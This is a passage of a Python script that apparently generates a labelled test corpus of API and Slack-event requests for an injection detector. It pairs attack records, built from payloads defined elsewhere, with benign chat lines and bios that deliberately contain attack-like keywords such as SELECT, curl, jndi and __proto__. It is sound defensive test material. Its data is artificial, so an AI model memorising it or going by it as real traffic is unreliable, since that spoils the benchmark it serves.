                                              "event_payload": v if kind == "frag" else {field: v}}}
        return Built("POST", "/slack/events", APP_JSON, ser(slack_envelope(event, n), style, compact), "metadata")
    shape = r.choice(["message", "mention", "blocks", "user-change", "attachment"])
    if shape == "message":
        event = {"type": "message", "user": user, "text": P(r.choice(LEADS) + p), "ts": ts, "channel": channel,
                 "channel_type": "channel", "client_msg_id": f"{r.getrandbits(64):016x}"}
    elif shape == "mention":
        event = {"type": "app_mention", "user": user, "text": P("<@U07BOT1234> " + p), "ts": ts,
                 "channel": channel}
    elif shape == "blocks":
        event = {"type": "message", "user": user, "text": P(p), "ts": ts, "channel": channel,
                 "blocks": [{"type": "rich_text", "block_id": "b1", "elements": [
                     {"type": "rich_text_section", "elements": [{"type": "text", "text": "ticket title: "},
                                                                {"type": "text", "text": v}]}]}]}
    elif shape == "user-change":
        event = {"type": "user_change", "user": {"id": user, "name": "ann", "profile": {
            "real_name": v, "display_name": "ann", "status_text": "In a meeting", "status_emoji": ":calendar:"}},
            "event_ts": ts}
    else:
        event = {"type": "message", "subtype": "bot_message", "bot_id": "B01INTEGR8", "text": "", "ts": ts,
                 "channel": channel, "attachments": [{"fallback": v, "text": v, "color": "#36a64f"}]}
    return Built("POST", "/slack/events", APP_JSON, ser(slack_envelope(event, n), style, compact), shape)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for ti, t in enumerate(TITLES):
        places = t.places or (SPLIT_PLACES if t.structured == "split" else PLACES)
        for j, p in enumerate(t.payloads):
            n += 1
            r = random.Random(f"{NAME}:{t.sub}:{j}")
            place = places[(ti * 5 + j) % len(places)]
            style = STYLES[(ti * 3 + j) % len(STYLES)]
            b = _build(t, place, p, r, style, compact=(ti + j) % 2 == 0, n=n)
            slack = b.uri.startswith("/slack/")
            headers = slack_attack_headers(n) if slack else api_headers(r, b.ctype, t.referer)
            yield {"method": b.method, "uri": b.uri, "body": b.body, "headers": headers,
                   "id": f"{NAME}-{t.category}-{n:04d}", "category": t.category, "sub": t.sub, "placement": place,
                   "payload": p, "shape": f"{b.shape}/{style}"}


# ---------------------------------------------------------------------------------------------------- the benign half
CHAT = [
    "can someone select a date for the offsite? union square or the docks",
    "I'll drop the table reservation if nobody replies by 5",
    "the script for Friday's demo is in the shared drive",
    "alert: the coffee machine on 3 is broken again ☕",
    "who owns the cron that runs the nightly export? it failed at 02:00",
    "ping me when you're back from lunch",
    "curl the health endpoint and paste the output here pls",
    "the cat picture in #random made my day",
    "exec summary is ready for review, link in the doc",
    "system update tonight at 22:00 UTC, expect a short blip",
    "we should order by priority, not by date",
    "the union rep meeting is moved to Thursday",
    "sleep schedule is wrecked after the Tokyo trip 😴",
    "our Java service needs the new Log4j 2.23, the PR is up",
    "the prototype is ready for user testing next week",
    "constructor of the Order class takes 3 args now, heads up",
    "I'll update the docs on require() vs import in the Node guide",
    "process for expenses changed, use the new form",
    "window cleaners are in tomorrow, blinds down please",
    "document the on-call handover in the wiki please",
    "anyone know where the PHP 8.3 upgrade notes are?",
    "the eval of the new vendor is due Friday",
    "set the timezone to Europe/Dublin in your profile",
    "the C:\\Users\\Public share is going away next month",
    "nginx config lives in /etc/nginx/conf.d on the old boxes, don't edit it by hand",
    "I moved the file to ../archive in the repo",
    "where/when/who for the 1:1s? I'll book rooms",
    "O'Brien's farewell drinks at 6, all welcome",
    "the query was slow because of a missing index on email",
    "GROUP BY department and count the heads, that's the report",
    "she said 'it's fine' and it wasn't fine 😂",
    "5 > 3 but the chart shows the opposite, can you check?",
    "pricing: $49/mo or $490/yr, 2 months free",
    "R&D and Sales & Marketing are merging their standups",
    "the <3 reactions on the launch post are lovely",
    "I'm out Mon–Wed; Aoife covers support",
    "the new hire starts Monday, please add her to #general",
    "my status says 'heads down' until 3pm",
    "run `npm ci && npm test` before you push",
    "the SELECT in the report pulls from the replica, not the primary",
    "we drop support for IE11 next quarter, finally",
    "the shell script in tools/ needs chmod +x after checkout",
    "ls shows the file but the app can't read it, permissions?",
    "id badge photos are on Tuesday in the lobby",
    "the where clause was missing, so the update hit every row in staging. restored from backup",
    "document.title is set by the router, don't touch it in the component",
    "the onload handler runs twice in Safari, investigating",
    "our API returns 429 when you go over 100 req/min",
    "please use the webhook URL from the integration page, not the old one",
    "the metadata field on users is free-form JSON, keep it small",
    "JSON Patch with op replace on /bio works, remove on /phone too",
    "merge patch sets a field to null to delete it, that's the spec",
    "GraphQL union types: SearchResult = User | Team, nice",
    "the admin flag is managed in Okta, not in our app",
    "role changes need two approvals now",
    "prototype pollution talk at the meetup was great, slides in #security",
    "the __proto__ key is stripped by our JSON parser config, ask Kenji",
    "mongo $regex queries on email are slow, use the lowercase index",
    "the $where operator is disabled on our cluster, good",
    "Angular templates use {{ user.name }} and that's fine",
    "the {{ first_name }} in the email template shows raw, the variable is misspelled",
    "jndi lookups are off by default since 2.17, we're on 2.23",
    "Spring Boot actuator is only on the internal port",
    "the Ruby script for invoices still runs on the old box",
    "Perl one-liners in the migration are fine, they only touch the CSV",
    "the class loader warning in the Tomcat logs is harmless",
    "the base URL for the staging API is https://staging.example.com/api",
    "the embed code for the video player is in the CMS",
    "link rel=preload for the fonts shaved 200ms",
    "meta description on the landing page is too long",
    "the style guide says no inline styles, use classes",
    "object storage bill is up 12% this month",
    "the applet era was wild, glad it's over",
    "I imported the CSV; 1,204 rows, 3 errors (bad dates)",
    "session timeout is 30 min now, per the security review",
    "cookie banner text needs legal sign-off",
    "the FOR loop in the Excel macro is why it's slow",
    "if it's urgent, page the on-call; otherwise file a ticket",
    "PowerShell 7 is on all the build agents now",
    "the cmd window flashes on login, it's the printer script",
    "history of the project is in the README, scroll to the bottom",
    "alias gs to git status, life changing",
    "the pipe | in the CSV broke the import, use semicolons",
    "& and < in the product name broke the XML export again",
    "order #4521 was refunded yesterday",
    "hash tags like #launch and #q3 are fine in the bio",
    "the ticket title says \"Login fails for O'Neil\" — apostrophe bug?",
    "select all, copy, paste into the sheet, done",
    "union station at 9? I'll bring the slides",
    "benchmark results: 12k req/s on the new instance",
    "sleep(5) in the test is why CI takes forever, let's use a fake clock",
    "wait for the deploy to finish before you merge, please",
    "the match against the old data looks good, 99.8% equal",
    "execute the runbook step 4 only if step 3 fails",
    "insert your name into the rota sheet",
    "update: the outage is over, RCA tomorrow",
    "delete the old branches once merged, please",
    "the hex colour for the brand is #0a7cff",
    "0x prefix is for hex literals, the parser expects decimal",
    "2147483647 is the max int, that's why the counter wrapped",
    "1e6 requests per day, give or take",
    "the backtick in markdown makes `code`",
    "the data: URL for the logo is inlined by the build",
    "the gopher stickers from the Go meetup are on my laptop",
    "the Windows path is C:\\Program Files\\Acme\\config.ini",
    "send the invite to all@example.com",
    "the regex ^[a-z0-9._-]+$ is for usernames",
    "the template uses ${name} placeholders, like Python's string.Template",
    "the HTML email has <b>bold</b> tags, looks fine in Outlook",
    "I wrote <br> instead of a newline in my bio and it shows literally",
    "use <kbd>Ctrl</kbd>+<kbd>K</kbd> to search",
    "the on-call rota: Mon Ann, Tue José, Wed Zoë",
    "onboarding checklist: laptop, badge, Slack, email, VPN",
    "the iframe embed for the dashboard needs the new domain",
    "javascript is disabled in the kiosk browser, so the form falls back",
    "the script tag order matters, analytics last",
    "expression of interest forms are due by the 15th",
    "evaluate the new monitoring tool; the trial ends in 14 days",
    "the system prompt for the support bot is in the repo",
    "our Node process restarts every night at 03:00",
    "globalThis works in both the browser and Node, use that",
    "the fetch() polyfill can go, all browsers have it",
    "localStorage is cleared on logout now",
    "the constructor.name check is fragile after minification",
    "char limit on the bio is 280, like old Twitter",
    "concat the first and last name for the display name",
    "who took the last oat milk?? 🥛",
    "happy Friday all, drinks on the roof at 5 if the weather holds",
]

BIOS = [
    "DBA for 10 years: I select, join and union data for a living. Ask me about Postgres vacuum.",
    "Frontend dev. JavaScript, TypeScript, React; I still remember AngularJS and its {{ }} bindings.",
    "I keep our Java services alive: Spring Boot, Log4j upgrades and too many class loaders.",
    "On-call SRE. I ping things, curl things and read logs. Coffee-powered.",
    "PHP developer since 5.3, now mostly Laravel and Symfony.",
    "Rubyist by day, Perl archaeologist by night.",
    "Security engineer. I run our bug bounty; report issues to security@example.com.",
    "Chief cat herder in R&D. 2 cats, 1 dog, 0 free time.",
    "Sales lead for DACH & Nordics. Drop me a line any time!",
    "Data scientist: Python, pandas, SQL with lots of GROUP BY and ORDER BY.",
    "Windows admin: PowerShell, Group Policy and the occasional batch script.",
    "Support lead (EMEA). If it's broken, tell me; if it's urgent, page me.",
    "Product designer. Figma, type nerd, occasional illustrator.",
    "Recruiter. Referrals welcome — we're hiring SREs & DBAs!",
    "Legal counsel. Contracts, privacy, and the odd cookie banner.",
    "QA engineer: I break things so you don't have to. Test scripts in Playwright.",
    "Engineering manager for the Platform team. 1:1s on Thursdays.",
    "Ex-chef, now data analyst. Still great at mise en place.",
    "Irish speaker (Gaeilge), runner, and O'Reilly book hoarder.",
    "I write the weekly release notes & keep the changelog honest.",
    "Facilities: desks, keys, badges, and the coffee machine (sorry).",
    "Part-time, Mon–Wed. Based in Cork. Ask me about the office move.",
    "Loves <3 tea, hiking and terrible puns.",
    "Speaks EN/DE/FR. Previously at a bank, now in fintech.",
    "Maintainer of our internal CLI (Go). Pull requests welcome.",
    "Mobile dev (Kotlin & Swift); the one who broke the Android build, once.",
    "Ops: Terraform, Kubernetes, and shell scripts older than some interns.",
    "Works on search: ranking, synonyms, and why 'union' matches 'onion'.",
    "Finance: month-end close, expense reports, and the budget sheet.",
    "Community manager, meetup organiser, sticker dealer.",
    "Node.js and TypeScript on the backend; I own the notification service.",
    "MongoDB whisperer. Indexes, aggregation pipelines, and $lookup woes.",
    "I made the <marquee> joke at the all-hands. I regret nothing.",
    "\"Done is better than perfect\" — but tests first.",
    "Tea > coffee. Tabs > spaces. Fight me (politely).",
    "Accessibility advocate: alt text, focus order, screen readers.",
    "Hiker, cyclist, and part-time DJ at the Friday socials 🎧",
    "Maths PhD, now forecasting demand. 1 + 1 = 2, usually.",
    "Customer success for our largest accounts in APAC.",
    "Learning Japanese: 日本語を勉強しています。",
    "Former teacher; now I write the onboarding docs & tutorials.",
    "Build & release: CI pipelines, artifacts, and the occasional rollback.",
    "Privacy engineer: data maps, retention, DSARs.",
    "Ask me about our design system, tokens and the dark theme.",
    "Backend (Python/Django). The ORM writes my SQL, mostly.",
    "Kubernetes admin; my pods have names, don't judge.",
    "Java champion; I still have my Duke plushie.",
    "I run the internal 'Lunch & Learn' — topics welcome!",
    "Working from Lisbon (UTC+0/+1).",
    "Graphic designer turned front-end developer. CSS is my happy place.",
]

STATUS = ["In a meeting", "On holiday 🌴 back on the 20th", "Heads down until 3pm", "Commuting", "Out sick",
          "WFH today", "At the offsite (Union Square)", "Lunch 🍜", "Focus time — DMs muted", "Interviewing",
          "On call this week 📟", "Travelling: DUB → NRT"]

SITES = ["https://ann.example.com/", "https://github.com/aoneil", "https://www.linkedin.com/in/jose-garcia",
         "https://blog.example.org/2024/05/why-we-moved-to-postgres", "https://example.com/people/zoe?tab=about",
         "https://mastodon.social/@kenji", "https://example.dev/talks/prototype-pollution-101.pdf",
         "https://cdn.example.com/avatars/42.png?v=3", "https://dribbble.com/mei-ng",
         "https://docs.example.com/api/v2/users#patch"]

SEARCHES = ["o'neil", "select committee", "union rep", "drop-in clinic", "script supervisor", "java team", "cat",
            "ping pong club", "R&D", "sales & marketing", "C++", "C#", ".NET", "node", "sleep study",
            "order by date", "D'Arcy", "Zoë", "1:1 meeting", "ops", "admin", "root cause", "exec assistant",
            "system administrator", "q3 data", "union", "where is my badge", "how to reset my password",
            "from: ann to: josé", "and/or", "50% off", "<3", "a & b", "price > 100", "100% done", "Ó Briain",
            "García-López", "email:ann@example.com", "dept:\"People Ops\"", "title:DBA", "-intern", "*",
            "security team", "update billing address", "delete account", "insert coin", "López", "alert settings",
            "window seat", "document upload"]

SETTINGS_SIGNATURES = ["Cheers,\nAnn O'Neil | Platform", "— José (he/him)", "Best regards,\nDr. Zoë Müller",
                       "Sent from my phone, excuse typos", "Kind regards & have a great day!",
                       "Siobhán Ó Briain\nSupport Lead, EMEA\n+353 21 555 0100",
                       "Thanks! :) — Kenji", "<b>Priya Haddad</b> | Finance"]

GRAPHQL = [
    ("query GetUser($id: ID!) { user(id: $id) { id name email department { name } } }", {"id": "42"}, "GetUser"),
    ("query Search($q: String!) { search(q: $q) { __typename ... on User { id name } ... on Team { id name } } }",
     {"q": "o'neil"}, "Search"),
    ("mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id bio } }",
     {"input": {"bio": "DBA; I select and union data for a living."}}, "UpdateProfile"),
    ("query Team($slug: String!) { team(slug: $slug) { members(first: 50, orderBy: {field: NAME, direction: ASC}) "
     "{ edges { node { id name } } } } }", {"slug": "r-and-d"}, "Team"),
    ("query { __schema { queryType { name } types { name kind } } }", {}, None),
    ("mutation SetStatus($text: String!, $emoji: String) { setStatus(text: $text, emoji: $emoji) { ok } }",
     {"text": "In a meeting", "emoji": ":calendar:"}, "SetStatus"),
    ("query Me { me { id name settings { theme language } } }", {}, "Me"),
    ("query Users($filter: UserFilter) { users(filter: $filter, first: 20) { totalCount nodes { id name } } }",
     {"filter": {"department": "Sales & Marketing", "active": True}}, "Users"),
    ("mutation AddTag($id: ID!, $tag: String!) { addTag(userId: $id, tag: $tag) { tags } }",
     {"id": "42", "tag": "on-call"}, "AddTag"),
    ("query Audit($after: String) { auditLog(after: $after, first: 100) { edges { node { action actor at } } } }",
     {"after": "Y3Vyc29yOjEwMA=="}, "Audit"),
]


def _pick_text(r: random.Random) -> str:
    return r.choice(BIOS + CHAT)


def _settings_doc(r: random.Random) -> dict[str, Any]:
    return {"theme": r.choice(["dark", "light", "system"]), "language": r.choice(["en-IE", "de-DE", "ja-JP", "fr-FR"]),
            "signature": r.choice(SETTINGS_SIGNATURES),
            "notifications": {"email": r.random() < 0.5, "digest": r.choice(["daily", "weekly", "never"]),
                              "mute_channels": ["#random", "#social"]},
            "editor": {"tab_size": r.choice([2, 4]), "font": "JetBrains Mono", "word_wrap": True},
            "shortcuts": {"search": "Ctrl+K", "new_ticket": "Ctrl+Shift+N"},
            "saved_searches": [{"name": "My open tickets", "q": "status:open assignee:me sort:updated-desc"},
                               {"name": "Escalations", "q": "priority:p1 OR priority:p2"}]}


def _metadata_doc(r: random.Random) -> dict[str, Any]:
    return {"source": r.choice(["hris-import", "scim", "manual", "slack-sync"]), "imported_at": "2024-06-21T09:14:00Z",
            "cost_center": f"CC-{r.randint(1000, 9999)}", "manager": r.choice(FIRST) + " " + r.choice(LAST),
            "notes": r.choice(BIOS), "badge": {"id": r.randint(1000, 99999), "floor": r.randint(1, 6)}}


def _style(r: random.Random) -> str:
    return r.choice(STYLES)


def _api(method: str, uri: str, ctype: str, body: str, r: random.Random) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": api_headers(r, ctype)}


def benign_profile(r: random.Random) -> dict[str, Any]:
    doc: dict[str, Any] = {**person(r), "bio": r.choice(BIOS), "website": r.choice(SITES),
           "phone": f"+353 21 {r.randint(100, 999)} {r.randint(1000, 9999)}",
           "address": {"line1": r.choice(["4 Rue de l'Église", "221B Baker Street", "Unit 3/45 O'Connell St",
                                          "1600 Amphitheatre Pkwy", "Hauptstraße 5"]), "line2": None,
                       "city": r.choice(["Cork", "Paris", "London", "Berlin", "Tokyo"]), "postcode": "T12 X2Y4"},
           "skills": [{"name": s, "level": r.randint(1, 5)} for s in r.sample(
               ["SQL", "JavaScript", "Java", "PHP", "Ruby", "Perl", "PowerShell", "Bash", "Go", "Excel"], 3)],
           "tags": r.sample(["on-call", "mentor", "first-aider", "union-rep", "fire-warden", "emea"], 2),
           "status": {"text": r.choice(STATUS), "emoji": ":speech_balloon:"}}
    style = _style(r)
    if r.random() < 0.08:
        name = doc["name"]
        body = ser(Pairs([("name", name.split()[0])] + list(doc.items())), style, r.random() < 0.5)
    else:
        body = ser(doc, style, r.random() < 0.5)
    if r.random() < 0.3:
        return _api("PATCH", "/api/users/42", APP_JSON, ser({"bio": doc["bio"], "status": doc["status"]}, style,
                                                             r.random() < 0.5), r)
    return _api("POST", "/api/users", APP_JSON, body, r)


def benign_settings(r: random.Random) -> dict[str, Any]:
    style = _style(r)
    container, inner = r.choice([("settings", _settings_doc(r)), ("metadata", _metadata_doc(r)),
                                 ("preferences", {"digest": "weekly", "signature": r.choice(SETTINGS_SIGNATURES),
                                                  "status_presets": r.sample(STATUS, 3)})])
    text = dump(inner, style, r.random() < 0.5)
    if r.random() < 0.5:
        return _api("PATCH", "/api/users/42", APP_JSON, ser({container: text}, style, True), r)
    return _api("POST", "/api/users", APP_JSON, ser({**person(r), container: text}, style, False), r)


def benign_patch(r: random.Random) -> dict[str, Any]:
    text = _pick_text(r)
    choices: list[list[dict[str, Any]]] = [
        [{"op": "test", "path": "/version", "value": r.randint(2, 60)},
         {"op": "replace", "path": "/bio", "value": text}],
        [{"op": "add", "path": "/tags/-", "value": r.choice(["on-call", "mentor", "union-rep", "first-aider"])}],
        [{"op": "remove", "path": "/phone"}],
        [{"op": "move", "from": "/emails/1", "path": "/emails/0"}],
        [{"op": "copy", "from": "/address", "path": "/billing_address"}],
        [{"op": "replace", "path": "/settings/theme", "value": r.choice(["dark", "light"])},
         {"op": "replace", "path": "/settings/notifications~1email", "value": False}],
        [{"op": "add", "path": "/status", "value": {"text": r.choice(STATUS), "emoji": ":palm_tree:"}}],
        [{"op": "replace", "path": "/title", "value": r.choice(JOBS)},
         {"op": "replace", "path": "/department", "value": r.choice(DEPARTMENTS)}],
        [{"op": "add", "path": "/skills/-", "value": {"name": r.choice(["SQL", "Java", "PowerShell"]), "level": 3}}],
        [{"op": "replace", "path": "/settings/signature", "value": r.choice(SETTINGS_SIGNATURES)}],
        [{"op": "add", "path": "/links/-", "value": {"label": "Blog", "url": r.choice(SITES)}}],
        [{"op": "remove", "path": "/metadata/legacy~0id"}, {"op": "replace", "path": "/notes", "value": text}],
    ]
    ops = r.choice(choices)
    return _api("PATCH", f"/api/users/{r.randint(2, 9999)}", JSON_PATCH, ser(ops, _style(r), r.random() < 0.5), r)


def benign_merge(r: random.Random) -> dict[str, Any]:
    text = _pick_text(r)
    choices: list[dict[str, Any]] = [
        {"bio": text, "phone": None},
        {"address": {"line2": None, "city": r.choice(["Galway", "Lyon", "Osaka"])}},
        {"settings": {"theme": "dark", "notifications": {"digest": "weekly"}}},
        {"tags": r.sample(["on-call", "mentor", "union-rep", "first-aider", "fire-warden"], 2)},
        {"status": {"text": r.choice(STATUS), "emoji": ":palm_tree:", "expires": "2024-08-20"}},
        {"title": r.choice(JOBS), "department": r.choice(DEPARTMENTS), "manager_id": r.randint(2, 400)},
        {"profile": {"pronouns": r.choice(["she/her", "he/him", "they/them"]), "bio": text}},
        {"website": r.choice(SITES), "avatar_url": None},
        {"metadata": {"notes": text, "legacy_id": None}},
    ]
    return _api("PATCH", f"/api/users/{r.randint(2, 9999)}", MERGE_PATCH,
                ser(r.choice(choices), _style(r), r.random() < 0.5), r)


def benign_graphql(r: random.Random) -> dict[str, Any]:
    query, variables, op = r.choice(GRAPHQL)
    if op == "Search":
        variables = {"q": r.choice(SEARCHES)}
    doc: dict[str, Any] = {"query": query, "variables": variables}
    if op:
        doc["operationName"] = op
    return _api("POST", "/api/graphql", APP_JSON, ser(doc, _style(r), r.random() < 0.5), r)


def benign_filter(r: random.Random) -> dict[str, Any]:
    choices: list[dict[str, Any]] = [
        {"created_at": {"$gte": "2024-01-01T00:00:00Z", "$lt": "2024-07-01T00:00:00Z"}},
        {"department": {"$in": ["R&D", "Security"]}, "active": True},
        {"$or": [{"name": {"$regex": "^" + r.choice(["ann", "jos", "zo"]), "$options": "i"}},
                 {"email": {"$regex": "^" + r.choice(["ann", "jos", "zo"])}}]},
        {"last_login": {"$exists": True}, "role": {"$ne": "guest"}},
        {"tags": {"$all": ["on-call", "emea"]}},
        {"age_days": {"$gt": 30}, "status.text": {"$nin": ["Out sick"]}},
    ]
    doc = {"filter": r.choice(choices), "sort": {r.choice(["name", "created_at", "last_login"]): r.choice([1, -1])},
           "limit": r.choice([20, 50, 100]), "skip": r.choice([0, 50, 100])}
    return _api("POST", "/api/users/search", APP_JSON, ser(doc, _style(r), r.random() < 0.5), r)


def benign_search(r: random.Random) -> dict[str, Any]:
    doc = {"q": r.choice(SEARCHES), "page": r.randint(1, 9), "per_page": r.choice([20, 50, 100]),
           "sort": r.choice(["-last_login", "name", "-created_at"]), "fields": ["id", "name", "email", "title"]}
    return _api("POST", "/api/users/search", APP_JSON, ser(doc, _style(r), r.random() < 0.5), r)


def _slack_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def benign_slack_event(r: random.Random, n: int) -> dict[str, Any]:
    text = _slack_escape(r.choice(CHAT))
    user = f"U0{r.randint(10**7, 10**8 - 1)}"
    ts = f"{EPOCH + n}.{r.randint(100000, 999999)}"
    channel = r.choice(("C0123456789", "C07GENERAL1", "C05HELPDESK", "C02RANDOM00"))
    kind = r.choice(["mention", "blocks", "changed", "reaction", "user-change", "link", "file", "join", "rename",
                     "thread"])
    event: dict[str, Any]
    if kind == "mention":
        event = {"type": "app_mention", "user": user, "text": "<@U07BOT1234> " + text, "ts": ts, "channel": channel}
    elif kind == "blocks":
        event = {"type": "message", "user": user, "text": text, "ts": ts, "channel": channel,
                 "channel_type": "channel", "blocks": [{"type": "rich_text", "block_id": "Xy1", "elements": [
                     {"type": "rich_text_section", "elements": [{"type": "text", "text": text}]}]}]}
    elif kind == "changed":
        event = {"type": "message", "subtype": "message_changed", "channel": channel, "ts": ts, "hidden": True,
                 "message": {"type": "message", "user": user, "text": text, "edited": {"user": user, "ts": ts}},
                 "previous_message": {"type": "message", "user": user, "text": text[:20]}}
    elif kind == "reaction":
        event = {"type": "reaction_added", "user": user, "reaction": r.choice(["+1", "tada", "eyes", "heart"]),
                 "item": {"type": "message", "channel": channel, "ts": ts}, "item_user": "U0ANN00001",
                 "event_ts": ts}
    elif kind == "user-change":
        event = {"type": "user_change", "user": {"id": user, "name": "aoneil", "real_name": r.choice(FIRST) + " "
                                                 + r.choice(LAST), "tz": r.choice(TIMEZONES), "profile": {
            "title": r.choice(JOBS), "status_text": r.choice(STATUS), "status_emoji": ":calendar:",
            "real_name": r.choice(FIRST) + " " + r.choice(LAST)}}, "event_ts": ts}
    elif kind == "link":
        event = {"type": "link_shared", "channel": channel, "user": user, "message_ts": ts,
                 "links": [{"domain": "example.com", "url": r.choice(SITES)}], "event_ts": ts}
    elif kind == "file":
        event = {"type": "file_shared", "file_id": "F07ABCDEF12", "user_id": user,
                 "file": {"id": "F07ABCDEF12"}, "channel_id": channel, "event_ts": ts,
                 "name": r.choice(["Q3 report (final).xlsx", "offsite-agenda.pdf", "O'Neil_contract_v2.docx",
                                   "screenshot 2024-06-21 at 10.14.png"])}
    elif kind == "join":
        event = {"type": "member_joined_channel", "user": user, "channel": channel, "channel_type": "C",
                 "team": "T061EG9R6", "inviter": "U0ANN00001"}
    elif kind == "rename":
        event = {"type": "channel_rename", "channel": {"id": channel, "name": r.choice(
            ["proj-union-square", "ops-alerts", "r-and-d", "sales-and-marketing", "select-committee"]),
            "created": EPOCH - 86400}}
    else:
        event = {"type": "message", "user": user, "text": text, "ts": ts, "thread_ts": f"{EPOCH}.000100",
                 "channel": channel, "parent_user_id": "U0ANN00001"}
    body = ser(slack_envelope(event, n), r.choice(("plain", "plain", "ascii", "slash")), True)
    return {"method": "POST", "uri": "/slack/events", "body": body, "headers": slack_benign_headers(n, r)}


PLAN = (("profile", benign_profile, 190), ("settings", benign_settings, 130), ("patch", benign_patch, 160),
        ("merge", benign_merge, 140), ("graphql", benign_graphql, 50), ("filter", benign_filter, 40),
        ("search", benign_search, 60))


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME, EPOCH)
    for kind, make, count in PLAN:
        for k in range(count):
            n += 1
            r = random.Random(f"{NAME}:benign:{kind}:{k}")
            yield {**make(r), "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": "json", "sub": kind}
    for k in range(150):
        n += 1
        r = random.Random(f"{NAME}:benign:slack:{k}")
        yield {**benign_slack_event(r, n), "id": f"{NAME}-slack-{n:04d}", "category": "benign",
               "placement": "slack-event", "sub": "slack"}


if __name__ == "__main__":
    print_records(attacks(), benign())
